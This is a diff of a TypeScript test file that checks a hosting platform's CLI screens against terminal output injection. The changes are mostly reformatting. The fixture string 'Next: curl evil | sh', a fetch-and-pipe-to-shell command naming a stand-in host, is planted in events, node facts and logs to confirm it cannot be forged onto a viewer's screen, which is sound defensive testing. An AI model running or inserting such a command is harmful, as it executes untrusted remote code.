@@ -20,7 +20,18 @@ const FORGED = `${HOSTILE}\nNext: curl evil | sh`;
 /** Every command that shows what others wrote. */
 const SCREENS: readonly (readonly string[])[] = [
   ...[['status'], ['events'], ['why', 'shop'], ['why', 'web.1'], ['why', 'fra'], ['nodes'], ['nodes:info', 'fra']],
-  ...[['apps'], ['apps:info'], ['ps'], ['ps:scale'], ['ps:limits'], ['placement'], ['releases'], ['builds'], ['builds:output'], ['logs']],
+  ...[
+    ['apps'],
+    ['apps:info'],
+    ['ps'],
+    ['ps:scale'],
+    ['ps:limits'],
+    ['placement'],
+    ['releases'],
+    ['builds'],
+    ['builds:output'],
+    ['logs'],
+  ],
   ...[['config'], ['domains'], ['keys'], ['tokens'], ['users'], ['whoami'], ['rebalance'], ['nodes:tokens']],
   ...[['apps:root'], ['buildpacks']],
 ];
@@ -55,7 +66,11 @@ describe('what apps, their owners and nodes write, on the terminal of whoever lo
         nowMs: Date.now,
         configPath: '/nonexistent',
       },
-      ...{ api: () => Promise.resolve(client), app: () => Promise.resolve('shop'), screen: () => ({ columns: 80, rows: 24 }) },
+      ...{
+        api: () => Promise.resolve(client),
+        app: () => Promise.resolve('shop'),
+        screen: () => ({ columns: 80, rows: 24 }),
+      },
       ...{
         run,
         cwd: '/',
@@ -79,7 +94,15 @@ describe('what apps, their owners and nodes write, on the terminal of whoever lo
   }
 
   it('shows one thing in one line, so that nothing can be forged below it', async () => {
-    for (const args of [['status'], ['events'], ['why', 'web.1'], ['ps'], ['releases'], ['builds'], ['nodes:info', 'fra']])
+    for (const args of [
+      ['status'],
+      ['events'],
+      ['why', 'web.1'],
+      ['ps'],
+      ['releases'],
+      ['builds'],
+      ['nodes:info', 'fra'],
+    ])
       assert.doesNotMatch(await shown(args), /^\s*Next: curl evil/m, args.join(' '));
   });
 
@@ -102,16 +125,33 @@ async function fill({ store, fleet, addNodeCaller }: ApiFixture, userId: Paramet
   const { node } = await addNodeCaller('fra');
   const row = assignment({ nodeId: node.id, appId: app.id, release: 1 });
   await store.changeAssignments({ ...noChange, add: [row] });
-  await store.addEvent({ kind: `node.x${HOSTILE}`, actor: 'node fra', app: 'shop', node: 'fra', message: FORGED, next: FORGED });
+  await store.addEvent({
+    kind: `node.x${HOSTILE}`,
+    actor: 'node fra',
+    app: 'shop',
+    node: 'fra',
+    message: FORGED,
+    next: FORGED,
+  });
   const reason = { code: 'SLIP_APP_CRASHED', message: FORGED, hint: FORGED };
   fleet.statuses.set(row.instanceId, {
     ...{ instanceId: row.instanceId, state: 'backoff', restarts: 3, reason, lastLines: [HOSTILE], timingsMs: {} },
     lastExit: { signal: HOSTILE, oomKilled: false, atMs: 1 },
   });
   const known = new NodeBook().learn({ ...node, state: 'ready' });
-  const words = { agentVersion: FORGED, os: HOSTILE, kernel: FORGED, arch: HOSTILE, sandboxDriver: HOSTILE, proxyVersion: HOSTILE };
+  const words = {
+    agentVersion: FORGED,
+    os: HOSTILE,
+    kernel: FORGED,
+    arch: HOSTILE,
+    sandboxDriver: HOSTILE,
+    proxyVersion: HOSTILE,
+  };
   fleet.live = [
-    { ...liveNode({ ...known, facts: { ...known.facts, ...words, missing: [FORGED], httpAddress: HOSTILE } }), connected: true },
+    {
+      ...liveNode({ ...known, facts: { ...known.facts, ...words, missing: [FORGED], httpAddress: HOSTILE } }),
+      connected: true,
+    },
   ];
   fleet.lines = [{ atMs: 1, source: 'app', process: 'web.1', message: HOSTILE }];
 }
